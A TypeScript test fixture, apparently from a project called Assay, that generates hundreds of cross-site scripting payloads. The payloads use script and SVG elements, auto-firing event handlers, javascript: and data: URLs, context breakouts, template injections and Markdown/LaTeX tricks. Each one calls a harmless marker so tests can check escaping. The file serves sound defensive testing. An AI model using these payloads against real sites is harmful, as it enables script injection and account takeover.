// Texts that would run a script if they were shown without escaping. They were written for Assay; the kinds are those
// of the OWASP cheat sheet on cross-site scripting, PortSwigger's cheat sheet (events, SVG animation, template
// literals), html5sec.org and the mutation XSS papers (Heiderich and others, mXSS, 2013). Each calls `xss`, which tests
// observe.

/** Calls that the payloads try to make. */
export const CALLS = ['alert(1)', 'xss(1)', "console.log('xss')", "fetch('/xss')", 'top.xss(1)'] as const

type Wrap = (call: string) => string

const ELEMENTS: readonly Wrap[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `<script/x>${call}</script\t>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
  (call) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>">`,
  (call) => `<form action="javascript:${call}"><button autofocus>go</button></form>`,
  (call) => `<math><a xlink:href="javascript:${call}">x</a></math>`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${call})}">`,
  (call) => `<style>@import 'javascript:${call}';*{animation:x}@keyframes x{}</style><b onanimationstart="${call}">`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<textarea><img src=x onerror=${call}></textarea><img src=x onerror=${call}>`,
  (call) => `<title></title><img src=x onerror=${call}>`,
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
]

/** Events that fire without any action of a reader, on elements that have them. */
const EVENTS: readonly { element: string; event: string }[] = [
  { element: 'img src=x', event: 'onerror' },
  { element: 'image src=x', event: 'onerror' },
  { element: 'svg', event: 'onload' },
  { element: 'body', event: 'onload' },
  { element: 'body', event: 'onpageshow' },
  { element: 'input autofocus', event: 'onfocus' },
  { element: 'select autofocus', event: 'onfocus' },
  { element: 'textarea autofocus', event: 'onfocus' },
  { element: 'details open', event: 'ontoggle' },
  { element: 'marquee', event: 'onstart' },
  { element: 'video src=x', event: 'onerror' },
  { element: 'video><source src=x', event: 'onerror' },
  { element: 'audio src=x', event: 'onerror' },
  { element: 'object data=x', event: 'onerror' },
  { element: 'link rel=stylesheet href=x', event: 'onerror' },
  { element: 'iframe src=about:blank', event: 'onload' },
  { element: 'script src=x', event: 'onerror' },
  { element: 'style', event: 'onload' },
  { element: 'b style="animation:1s x"', event: 'onanimationend' },
  { element: 'b style="transition:1s" contenteditable autofocus', event: 'onfocusin' },
  { element: 'svg><animate attributeName=x dur=1s', event: 'onbegin' },
  { element: 'svg><set attributeName=x dur=1s', event: 'onbegin' },
]

const QUOTES: readonly ((call: string) => string)[] = [
  (call) => call,
  (call) => `"${call}"`,
  (call) => `'${call}'`,
  (call) => `"&#x6a;avascript:${call}"`,
  (call) => `\`${call}\``,
]

const SVG: readonly Wrap[] = [
  (call) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${call}</script></svg>`,
  (call) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  (call) => `<svg><a><animate attributeName=href values="javascript:${call}"/><text x=20 y=20>x</text></a></svg>`,
  (call) => `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"/></foreignObject></svg>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"/></svg>`,
  (call) => `<svg><image href="x" onerror="${call}"/></svg>`,
  (call) => `<svg><discard onbegin="${call}"/></svg>`,
]

/** Payloads that break out of their context: an attribute, text, JSON in a script, a comment, a template, CSS. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '" ',
  "' ",
  '`>',
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  ']]>',
  '\\">',
  '\u2028">',
]

const SCRIPTS: readonly Wrap[] = [
  (call) => `';${call}//`,
  (call) => `";${call}//`,
  (call) => `\\';${call}//`,
  (call) => `</script><script>${call}</script>`,
  (call) => `<!--<script>${call}`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call.replaceAll("'", "\\'")}')()}}`,
  (call) => `#{${call}}`,
  (call) => `"autofocus onfocus=${call} x="`,
  (call) => `' style=animation-name:x onanimationstart=${call} x='`,
]

const ADDRESSES: readonly Wrap[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  () => 'data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=',
  (call) => `blob:javascript:${call}`,
  (call) => `view-source:javascript:${call}`,
]

const MARKDOWN: readonly Wrap[] = [
  ...ADDRESSES.flatMap((address): Wrap[] => [
    (call) => `[x](${address(call)})`,
    (call) => `[x](<${address(call)}>)`,
    (call) => `![x](${address(call)})`,
    (call) => `<${address(call)}>`,
    (call) => `[x]\n\n[x]: ${address(call)}`,
  ]),
  (call) => `[x](https://a.b "\\" onmouseover=${call}")`,
  (call) => `![" onerror="${call}](x)`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `\`\`\`" onload="${call}\nx\n\`\`\``,
  (call) => `$\\href{javascript:${call}}{x}$`,
  (call) => `$\\includegraphics{x onerror=${call}}$`,
  (call) => `$\\htmlData{onload=${call}}{x}$`,
  (call) => `$</annotation><script>${call}</script>$`,
  (call) => `[^x]\n\n[^x]: <img src=x onerror=${call}>`,
  (call) => `| <img src=x onerror=${call}> |\n|---|`,
  (call) => `# <img src=x onerror=${call}>`,
  (call) => `<div>\n\n<img src=x onerror=${call}>\n\n</div>`,
  (call) => `[x](# "</a><img src=x onerror=${call}>")`,
]

/** Ids and names that a text must not define, because scripts of the page may look them up (DOM clobbering). */
export const CLOBBERING = [
  'location',
  'cookie',
  'getElementById',
  '__proto__',
  'constructor',
  'body',
  'xss',
  '__next_f',
]

/** Texts for a field that is shown as text. */
export function hostileTexts(): string[] {
  const bare: Wrap[] = [
    ...ELEMENTS,
    ...SVG,
    ...SCRIPTS,
    ...ADDRESSES,
    ...EVENTS.flatMap(({ element, event }) =>
      QUOTES.map(
        (quote): Wrap =>
          (call) =>
            `<${element} ${event}=${quote(call)}>`,
      ),
    ),
  ]
  const broken = [...ELEMENTS.slice(0, 3), ...EVENTS.slice(0, 6).map(eventOf)].flatMap((wrap) =>
    BREAKOUTS.map(
      (breakout): Wrap =>
        (call) =>
          `${breakout}${wrap(call)}`,
    ),
  )
  return unique([...bare, ...broken].flatMap((wrap) => CALLS.map(wrap)))
}

export const hostileSvgs = (): string[] => unique(SVG.flatMap((wrap) => CALLS.map(wrap)))

/** Texts for a Markdown field: hostile addresses, and all payloads above. */
export const hostileMarkdown = (): string[] =>
  unique([...MARKDOWN.flatMap((wrap) => CALLS.map(wrap)), ...hostileTexts()])

/** Every `n`th text, for tests in which all texts would take too long. If `n` is not divisible by 5, the calls vary as well. */
export const some = (texts: readonly string[], n: number, start = 0): string[] =>
  texts.filter((_, index) => index % n === start % n)

function eventOf({ element, event }: { element: string; event: string }): Wrap {
  return (call) => `<${element} ${event}=${call}>`
}

const unique = (texts: readonly string[]) => [...new Set(texts)]
